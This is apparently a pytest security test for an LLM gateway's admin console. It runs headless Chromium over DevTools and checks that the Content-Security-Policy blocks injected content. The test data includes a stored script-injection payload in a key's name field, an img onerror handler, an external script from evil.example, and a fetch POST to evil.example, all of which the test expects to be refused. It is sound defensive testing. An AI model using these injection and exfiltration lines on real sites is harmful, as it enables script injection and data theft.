"""The console in Chromium, under its Content-Security-Policy: nothing of it is refused, and nothing foreign runs."""

import asyncio
import json
import re
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from tests.security_pass.test_logs import PASSWORD, Browser
from tests.support.waiting import eventually

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
PAGES = (
    "/admin/", "/admin/keys/virtualkey/", "/admin/keys/virtualkey/add/", "/admin/keys/user/", "/admin/keys/user/add/",
    "/admin/gateway/provider/add/", "/admin/gateway/modelgroup/add/", "/admin/security/auditentry/",
    "/admin/billing/ledgerentry/", "/admin/rag/document/add/", "/admin/password_change/", "/api/docs", "/api/schema",
)  # fmt: skip

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium: the console's policy was not tried in a browser")


@pytest.fixture
def debugger(tmp_path: Path) -> Iterator[str]:
    """Chromium's DevTools, as the URL of a WebSocket."""
    port = tmp_path / "DevToolsActivePort"
    process = subprocess.Popen(
        [str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
         "--no-first-run", "--remote-debugging-port=0", f"--user-data-dir={tmp_path}", "about:blank"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        eventually(lambda: port.exists() and len(port.read_text().split()) == 2, 60, every=0.1)
        number, path = port.read_text().split()
        yield f"ws://127.0.0.1:{number}{path}"
    finally:
        process.kill()
        process.wait(10)


class Tab:
    """A page, and what went wrong on it."""

    def __init__(self, socket: aiohttp.ClientWebSocketResponse, session: str | None = None) -> None:
        self.socket, self.session, self.number = socket, session, 0
        self.problems: list[str] = []
        self.events: list[str] = []

    async def do(self, method: str, **params: Any) -> Any:
        self.number += 1
        asked = {"id": self.number, "method": method, "params": params}
        await self.socket.send_json(asked | ({"sessionId": self.session} if self.session else {}))
        while True:
            told = json.loads(await self.socket.receive_str(timeout=30))
            if told.get("id") == self.number:
                assert "error" not in told, told
                return told["result"]
            self.note(told)

    def note(self, told: dict[str, Any]) -> None:
        self.events.append(told.get("method", ""))
        if told.get("method") == "Runtime.exceptionThrown":
            self.problems.append(json.dumps(told["params"]["exceptionDetails"])[:500])
        if told.get("method") == "Log.entryAdded" and told["params"]["entry"]["level"] == "error":
            self.problems.append(f"{told['params']['entry']['text']} {told['params']['entry'].get('url')}"[:500])

    async def open(self, url: str) -> None:
        self.events.clear()
        await self.do("Page.navigate", url=url)
        for _ in range(200):
            if "Page.loadEventFired" in self.events:
                break
            await self.do("Runtime.evaluate", expression="1")
            await asyncio.sleep(0.05)
        else:
            raise AssertionError(f"{url} never came")
        await asyncio.sleep(0.3)  # what scripts do afterwards

    async def evaluate(self, expression: str) -> Any:
        found = await self.do("Runtime.evaluate", expression=expression, awaitPromise=True, returnByValue=True)
        return found["result"].get("value")


async def new_tab(socket: aiohttp.ClientWebSocketResponse) -> Tab:
    browser = Tab(socket)
    target = (await browser.do("Target.createTarget", url="about:blank"))["targetId"]
    session = (await browser.do("Target.attachToTarget", targetId=target, flatten=True))["sessionId"]
    tab = Tab(socket, session)
    tab.number = browser.number
    for domain in ("Page", "Runtime", "Log", "Network"):
        await tab.do(f"{domain}.enable")
    return tab


async def test_the_console_works_and_what_is_foreign_does_not(make_gateway, debugger):
    gateway = make_gateway(empty=True).start()
    given = re.search(r"Login: +admin / (\S+)", (gateway.folder / "first-run.txt").read_text())
    assert given is not None
    visitor = Browser(gateway.url)
    visitor.submit("/admin/login/", username="admin", password=given[1])
    visitor.submit("/admin/password_change/", old_password=given[1], new_password1=PASSWORD, new_password2=PASSWORD)
    made = visitor.submit(
        "/admin/keys/virtualkey/add/", name="<script>document.title='run'</script>", role="member", queue_weight="1"
    )
    secret_page = made.headers["location"]

    async with aiohttp.ClientSession() as session, session.ws_connect(debugger, max_msg_size=0) as socket:
        tab = await new_tab(socket)
        await tab.open(f"{gateway.url}/admin/login/")
        assert await tab.evaluate("typeof Alpine") == "object"
        for name, value in visitor.client.cookies.items():
            await tab.do("Network.setCookie", name=name, value=value, url=gateway.url)
        for page in (secret_page, *PAGES):
            await tab.open(gateway.url + page)
            assert await tab.evaluate("location.pathname") == page, "not sent to the login"
            assert tab.problems == [], page
            assert await tab.evaluate("document.title") != "run"
            if page == secret_page:
                await tab.evaluate("document.querySelector('[data-copies=secret]').click()")
                await asyncio.sleep(0.3)
                assert await tab.evaluate("document.querySelector('[data-copies=secret]').textContent") == "Copied"
            if page == "/api/docs":
                assert await tab.evaluate("document.querySelectorAll('.opblock').length > 10")

        # What somebody might get into a page after all.
        await tab.open(f"{gateway.url}/admin/")
        await tab.evaluate("""
            const script = document.createElement("script");
            script.textContent = "document.title = 'run'";
            document.body.append(script);
            const image = document.createElement("img");
            image.setAttribute("onerror", "document.title = 'run'");
            image.src = "https://evil.example/pixel.png";
            document.body.append(image);
            const foreign = document.createElement("script");
            foreign.src = "https://evil.example/x.js";
            document.body.append(foreign);
            undefined
        """)
        await asyncio.sleep(0.5)
        assert await tab.evaluate("document.title") != "run"
        sent = "fetch('https://evil.example/', {method: 'POST', body: 'x'}).then(() => 'sent', () => 'refused')"
        assert await tab.evaluate(sent) == "refused"
        refused = [problem for problem in tab.problems if "Content Security Policy" in problem]
        assert len(refused) >= 4, tab.problems
    visitor.client.close()
